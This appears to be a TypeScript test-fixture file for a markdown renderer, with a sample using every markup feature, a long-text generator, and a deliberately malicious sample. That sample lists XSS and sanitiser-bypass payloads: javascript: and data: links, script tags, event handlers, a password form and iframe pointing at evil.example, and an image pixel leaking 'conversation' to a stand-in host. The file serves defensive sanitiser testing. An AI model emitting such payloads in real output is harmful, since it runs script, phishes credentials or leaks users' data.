/** An answer with every kind of block and inline markup. */
export const EVERYTHING_MARKDOWN = `# Heading one

## Heading two with \`code\`

### Heading three

#### Heading four

##### Heading five

###### Heading six

A paragraph with **bold**, *italic*, ***both***, ~~struck~~, \`inline code\`, a [page](/guides/start), a [section](/guides/start#install "Install"),
a [page elsewhere](https://example.com/a_(b)), a bare https://example.com/bare, an <https://example.com/auto>, mail to <someone@example.com>,
a hard break\\
and entities: &amp; &lt; &copy; &#x1F600;. Signs: 2 * 3 * 4, snake_case_name, a\\*b. Scripts: 日本語, العربية, עברית, हिन्दी, 👩‍👩‍👧‍👦.

- one
- two
  - two and a half
    1. deep
    2. deeper
- three

  with a second paragraph

1. first
2. second

3. third after a gap

7. seventh

- [x] done
- [ ] open

> A quote
> over two lines
>
> > inside a quote
>
> - with a list

\`\`\`ts title="example.ts"
// A comment that is rather long, so that the block has to scroll sideways on any screen that a person would read it on.
export function greet(name: string): string {
  return \`Hello, \${name}!\`;
}
\`\`\`

\`\`\`
no language
\`\`\`

~~~diff
- old
+ new
~~~

    indented code

| Left | Centre | Right |
| :--- | :----: | ----: |
| a \\| b | **bold** | 1 |
| \`code\` | [link](/x) | 1,000 |
| a very long cell that does not break anywhere: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | | |

---

Term with a footnote[^1] and a [reference][ref].

[^1]: The footnote.

[ref]: /reference "Reference"

![An image of the site](/images/diagram.png)

\`\`\`suggestions
(Getting started)[/guides/start]
(Options)[/reference/options#all]
\`\`\`
`;

/** A malicious answer. Nothing in it may run, load, or lead the reader elsewhere unnoticed. */
export const UNSAFE_MARKDOWN = `Links that are none: [script](javascript:alert(1)), [caps](JaVaScRiPt:alert(1)), [tab](java\tscript:alert(1)),
[entity](javascript&#58;alert(1)), [data](data:text/html,<script>alert(1)</script>), [vb](vbscript:msgbox(1)), [file](file:///etc/passwd),
[blob](blob:https://example.com/1), [control](\u0001javascript:alert(1)), <javascript:alert(1)>, [protocol](//evil.example/x), [back](\\\\evil.example\\x).

<script>window.__unsafe = 1;</script>

<img src="x" onerror="window.__unsafe = 2">

<iframe src="https://evil.example/"></iframe>

<style>* { display: none !important; }</style>

<a href="javascript:window.__unsafe=3" onclick="window.__unsafe=4">click</a>

<form action="https://evil.example/"><input name="password" type="password"><button>Sign in</button></form>

![remote](https://evil.example/pixel.png?leak=conversation)

![script](javascript:window.__unsafe=5)

![data](data:image/svg+xml,<svg onload="window.__unsafe=6"></svg>)

[![nested](https://evil.example/nested.png)](javascript:window.__unsafe=7)

[https://docs.example.com](https://evil.example/phishing)

\`\`\`"><script>window.__unsafe=8</script>
code with a hostile language
\`\`\`

| <img src=x onerror="window.__unsafe=9"> | b |
| --- | --- |
| [x](javascript:window.__unsafe=10) | <svg/onload=window.__unsafe=11> |

[reference]

[reference]: javascript:window.__unsafe=12 "title\\" onmouseover=window.__unsafe=13"

Text that turns around: \u202Egnp.exe\u202C and hides\u200B\u200Bspaces.

\`\`\`suggestions
(Harmless)[/guides/start]
(Script)[javascript:window.__unsafe=14]
(Elsewhere)[https://evil.example/]
(Protocol)[//evil.example/]
(<img src=x onerror=window.__unsafe=15>)[/guides/markup]
\`\`\`
`;

/** Markdown of an exact length: numbered chapters of prose, lists, code and tables. */
export function longMarkdown(length: number): string {
  let text = '';
  for (let number = 1; text.length < length; number += 1) text += chapter(number);
  return text.slice(0, length);
}

function chapter(number: number): string {
  const prose = `This is paragraph ${number} of a long answer, with **bold words**, \`inline code ${number}\` and a [link](/guides/chapter-${number}). `;
  const rows = [1, 2, 3].map((row) => `| option${number}${row} | \`string\` | Describes option ${row}. |`).join('\n');
  return `## Chapter ${number}

${prose.repeat(3).trim()}

- First point of chapter ${number}
- Second point, with \`code\`
  - A deeper point

\`\`\`ts
export function chapter${number}(options: Options): Result {
  const value = options.value ?? ${number};
  return { value, doubled: value * 2 };
}
\`\`\`

| Name | Type | Meaning |
| --- | --- | --- |
${rows}

`;
}
